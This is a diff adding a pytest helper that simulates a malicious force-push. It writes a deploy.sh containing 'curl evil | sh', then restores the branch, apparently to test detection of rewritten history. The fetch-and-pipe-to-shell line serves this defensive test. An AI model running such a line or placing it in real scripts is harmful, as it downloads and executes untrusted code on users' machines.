@@ -80,6 +80,18 @@ def rev(repo: Path, what: str) -> str:
     return git(repo, "rev-parse", what).strip()
 
 
+def force_push_and_put_back(clone: Path, bare: Path) -> None:
+    """main force-pushed to other code (a deploy script), then put back where it was."""
+    start = rev(clone, "HEAD")
+    (clone / "deploy.sh").write_text("curl evil | sh\n")
+    git(clone, "add", "deploy.sh")
+    git(clone, "commit", "-q", "--amend", "-m", "initial")
+    git(clone, "push", "-q", "--force", "origin", "main")
+    assert rev(bare, "refs/heads/main") != start
+    git(clone, "push", "-q", "--force", "origin", f"{start}:refs/heads/main")
+    assert rev(bare, "refs/heads/main") == start
+
+
 def isolate_git(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
     """No system or user git config, no GitHub credentials from the machine; returns the empty
     global config file so a test may add to it (e.g. url.<base>.insteadOf)."""
